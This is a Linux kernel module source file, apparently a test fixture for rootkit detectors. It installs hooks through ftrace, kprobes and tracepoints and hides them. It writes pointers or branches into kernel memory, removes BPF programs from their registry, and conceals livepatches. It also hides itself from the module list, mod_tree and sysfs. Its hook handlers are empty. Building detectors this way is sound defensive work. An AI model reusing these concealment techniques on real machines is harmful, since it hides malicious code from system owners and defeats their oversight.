// SPDX-License-Identifier: GPL-2.0-only
/*
 * imitator.c - does to its machine what public rootkits do, one technique at a time, for tests of what finds it
 *
 * technique:
 *   ftrace      an ftrace_ops on vfs_read
 *   unlisted    one on vfs_writev, taken off ftrace_ops_list, which is at the address at
 *   kprobe      one on kallsyms_lookup_name, which stays
 *   tracepoint  a probe of sched_process_exit
 *   freed       a kprobe on kernel_restart and an ftrace_ops on kernel_power_off, whose handlers are freed with the module
 *   pointer     writes a pointer to a function of its own at the address at
 *   branch      writes a branch to that function, likewise
 *   program     takes the BPF program whose number is id off prog_idr, which is at the address at
 *   (PATCHED)   if that is defined, a livepatch of the function without its directory in /sys/kernel/livepatch; if at is
 *               given, off the list of patches, too
 *
 * hide: 1 off the list of modules, 2 off mod_tree, 4 out of /sys/module.
 */
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/livepatch.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/tracepoint.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>

static char *technique = "";
module_param(technique, charp, 0);
static unsigned long at;
module_param(at, ulong, 0);
static int hide;
module_param(hide, int, 0);
static int id;
module_param(id, int, 0);

static void notrace on_call(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops hook = { .func = on_call, .flags = FTRACE_OPS_FL_IPMODIFY };

static int on_probe(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe = { .symbol_name = "kallsyms_lookup_name", .pre_handler = on_probe };
static struct kprobe finder = { .symbol_name = "mod_tree_remove" };

static void on_exit(void *data)
{
}

static noinline long of_its_own(void)
{
	return 0;
}

#ifdef PATCHED
static struct klp_func functions[] = { { .old_name = PATCHED, .new_func = of_its_own }, { } };
static struct klp_object objects[] = { { .funcs = functions }, { } };
static struct klp_patch patch = { .mod = THIS_MODULE, .objs = objects };
MODULE_INFO(livepatch, "Y");
#endif

static void trace_function(struct ftrace_ops *ops, char *name)
{
	ftrace_set_filter(ops, name, strlen(name), 0);
	register_ftrace_function(ops);
}

static void take_off_the_list(void)
{
	struct ftrace_ops **link;

	for (link = (struct ftrace_ops **)at; *link; link = &(*link)->next) {
		if (*link == &hook) {
			*link = hook.next;
			break;
		}
	}
}

static void trace_exits(struct tracepoint *point, void *data)
{
	if (!strcmp(point->name, "sched_process_exit"))
		tracepoint_probe_register(point, on_exit, NULL);
}

/* Both structs stay, and the module, with the handlers, goes. Nothing calls these functions before the machine ends. */
static int leave_handlers(void)
{
	struct kprobe *left = kzalloc(sizeof(*left), GFP_KERNEL);
	struct ftrace_ops *ops = kzalloc(sizeof(*ops), GFP_KERNEL);

	if (left && ops) {
		left->symbol_name = "kernel_restart";
		left->pre_handler = on_probe;
		register_kprobe(left);
		ops->func = on_call;
		trace_function(ops, "kernel_power_off");
	}
	return -ENODEV;
}

static void write_there(void *data, size_t size)
{
	struct page *page = virt_to_page(lm_alias(at));
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return;
	memcpy(alias + offset_in_page(at), data, size);
	vunmap(alias);
}

/* Not before the loader is done with the module: it still takes init's memory out of mod_tree. */
static void disappear(struct work_struct *work)
{
#ifdef PATCHED
	kobject_del(&patch.kobj);
	if (at)
		list_del(&patch.list);
#endif
	if (hide & 2 && !register_kprobe(&finder)) {
		void (*remove)(struct module *mod) = (void *)finder.addr;

		unregister_kprobe(&finder);
		remove(THIS_MODULE);
	}
	if (hide & 4)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	if (hide & 1) {
		THIS_MODULE->list.prev->next = THIS_MODULE->list.next;
		THIS_MODULE->list.next->prev = THIS_MODULE->list.prev;
	}
}

static DECLARE_DELAYED_WORK(vanish, disappear);

static int __init imitator_init(void)
{
	void *pointer = of_its_own;
	u32 branch = 0x14000000 | (((unsigned long)of_its_own - at) >> 2 & 0x3ffffff);

	if (!strcmp(technique, "ftrace")) {
		trace_function(&hook, "vfs_read");
	} else if (!strcmp(technique, "unlisted")) {
		trace_function(&hook, "vfs_writev");
		take_off_the_list();
	} else if (!strcmp(technique, "kprobe")) {
		register_kprobe(&probe);
	} else if (!strcmp(technique, "tracepoint")) {
		for_each_kernel_tracepoint(trace_exits, NULL);
	} else if (!strcmp(technique, "freed")) {
		return leave_handlers();
	} else if (!strcmp(technique, "pointer")) {
		write_there(&pointer, sizeof(pointer));
	} else if (!strcmp(technique, "branch")) {
		write_there(&branch, sizeof(branch));
	} else if (!strcmp(technique, "program")) {
		idr_remove((struct idr *)at, id);
	}
#ifdef PATCHED
	if (klp_enable_patch(&patch))
		return -EINVAL;
#endif
	schedule_delayed_work(&vanish, HZ);
	return 0;
}

static void __exit imitator_exit(void)
{
}

module_init(imitator_init);
module_exit(imitator_exit);
MODULE_DESCRIPTION("Imitates techniques of rootkits");
MODULE_LICENSE("GPL");
